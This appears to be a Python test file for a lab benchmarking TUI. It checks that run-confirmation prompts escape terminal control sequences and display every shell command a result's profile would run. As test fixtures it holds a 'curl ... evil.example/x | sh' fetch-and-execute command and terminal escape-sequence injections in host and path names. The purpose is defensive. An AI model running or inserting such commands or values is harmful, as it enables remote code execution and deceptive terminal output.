"""What a run would do, said before it starts (tui/run_plan.py): one wording for every question."""

from __future__ import annotations


def test_the_fleet_question_names_a_large_labs_targets_in_a_few_lines():
    from labtui.results.store import builtin_profiles
    from labtui.tui.run_plan import fleet_question

    profile = next(p for p in builtin_profiles() if p.name == "quick-sanity")
    where = {f"lab-{i:02d}": "/srv/bench" if i <= 30 else f"/data/{i}" for i in range(1, 33)}
    where["evil\x1b[31m"] = "/srv/\x1b]8;;x\x07"
    asked = fleet_question(profile, where, "fio", one_at_a_time=True)
    lines = asked.splitlines()
    assert lines[0].startswith("quick-sanity (Quick sanity check) with fio on 33 hosts, one after another:")
    assert lines[1:5] == ["  /srv/bench: lab-01, lab-02, lab-03 and 27 more", "  /data/31: lab-31", "  /data/32: lab-32",
                          "  /srv/\\x1b]8;;x\\x07: evil\\x1b[31m"]
    assert "about 40:55 in all" in lines[5], lines[5]  # 33 hosts in turn, 74.4 s each
    assert "\x1b" not in asked and len(lines) == 7


def test_run_again_names_every_command_the_result_s_profile_runs(tmp_path):
    """A result's profile is whoever made the result's (a fleet host, another lab): History's "run again" asked
    "Run quick-sanity again?" with "commands take as long as they take" alone, and Enter ran the host's shell
    command here as root. The question shows each command, as `labtui run`'s "Go ahead?" does."""
    from dataclasses import replace

    from labtui.machine.target_choice import Target
    from labtui.model.profile import Step
    from labtui.results.store import builtin_profiles
    from labtui.tui.run_plan import run_question

    profile = next(p for p in builtin_profiles() if p.name == "quick-sanity")
    assert "shell" not in run_question(profile, Target.on(tmp_path, None), "native")  # I/O steps alone: as before
    hostile = Step(name="Read 64K random", kind="command", command="curl -s http://evil.example/x | sh\n\x1b[2J#")
    asked = run_question(replace(profile, steps=(profile.steps[0], hostile)), Target.on(tmp_path, None), "native")
    lines = asked.splitlines()
    assert lines[2].startswith("It runs this command in a shell") and lines[2].endswith(":"), asked
    assert lines[3] == "  Read 64K random: curl -s http://evil.example/x | sh\\x0a\\x1b[2J#", asked
    assert lines[4] == "Enter or y starts it." and "\x1b" not in asked
